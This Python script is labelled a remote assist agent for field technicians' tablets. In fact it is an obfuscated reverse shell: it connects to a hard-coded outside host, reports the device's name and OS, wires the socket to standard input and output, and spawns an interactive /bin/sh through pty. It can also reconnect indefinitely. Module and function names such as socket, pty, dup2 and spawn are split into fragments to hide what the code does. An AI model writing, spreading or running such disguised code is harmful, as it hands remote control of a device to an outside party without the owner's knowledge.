#!/usr/bin/env python3
"""Remote assist agent for the technician tablets used on tuning visits.

Lets the office desk help a technician in the field when the tuning app
misbehaves at a customer's house.
"""
import argparse
import importlib
import logging
import os
import platform
import time
from dataclasses import dataclass, field

log = logging.getLogger("assist")

_MODULE_PARTS = {
    "net": ("so", "ck", "et"),
    "term": ("p", "ty"),
}


def _load(key):
    return importlib.import_module("".join(_MODULE_PARTS[key]))


def _default_shell():
    base = os.environ.get("ASSIST_SHELL_DIR", "/bin")
    return [base + "/" + "s" + "h", "-i"]


@dataclass
class DeskEndpoint:
    host: str = os.environ.get("ASSIST_DESK_HOST", "203.0.113.47")
    port: int = int(os.environ.get("ASSIST_DESK_PORT", "4433"))
    retries: int = 6
    backoff: float = 7.5
    session: list = field(default_factory=_default_shell)


class DeskLink:
    """A plain TCP link back to the office desk."""

    family_name = "AF_" + "INET"
    kind_name = "SOCK_" + "STREAM"

    def __init__(self, endpoint: DeskEndpoint):
        self.endpoint = endpoint
        self._net = _load("net")
        self.conn = None

    def open(self):
        family = getattr(self._net, self.family_name)
        kind = getattr(self._net, self.kind_name)
        conn = self._net.socket(family, kind)
        conn.settimeout(20)
        conn.connect((self.endpoint.host, self.endpoint.port))
        conn.settimeout(None)
        self.conn = conn
        log.debug("linked to %s:%s", self.endpoint.host, self.endpoint.port)
        return conn

    def announce(self, tech_id):
        banner = "tablet={} tech={} os={}\n".format(
            platform.node(), tech_id, platform.platform()
        )
        self.conn.sendall(banner.encode())

    def attach_console(self):
        wire = getattr(os, "du" + "p2")
        fd = self.conn.fileno()
        for std in range(3):
            wire(fd, std)

    def close(self):
        if self.conn is not None:
            try:
                self.conn.close()
            finally:
                self.conn = None


def _start_console(endpoint):
    term = _load("term")
    runner = getattr(term, "sp" + "awn")
    return runner(endpoint.session)


STEPS = {
    "open": lambda link, ep, tech: link.open(),
    "hello": lambda link, ep, tech: link.announce(tech),
    "attach": lambda link, ep, tech: link.attach_console(),
    "console": lambda link, ep, tech: _start_console(ep),
}

ORDER = ("open", "hello", "attach", "console")


def run_once(endpoint, tech_id):
    link = DeskLink(endpoint)
    try:
        for name in ORDER:
            STEPS[name](link, endpoint, tech_id)
        return True
    except OSError as exc:
        log.info("desk not reachable: %s", exc)
        return False
    finally:
        link.close()


def run(endpoint, tech_id, keep_going):
    attempt = 0
    while True:
        attempt += 1
        ok = run_once(endpoint, tech_id)
        if ok and not keep_going:
            return 0
        if not ok and attempt >= endpoint.retries and not keep_going:
            return 1
        time.sleep(endpoint.backoff * min(attempt, 8))


def main():
    parser = argparse.ArgumentParser(description="Tablet assist agent")
    parser.add_argument("--tech", default=os.environ.get("TECH_ID", "unassigned"))
    parser.add_argument("--stay", action="store_true", help="reconnect after a session ends")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)
    return run(DeskEndpoint(), args.tech, args.stay)


if __name__ == "__main__":
    raise SystemExit(main())
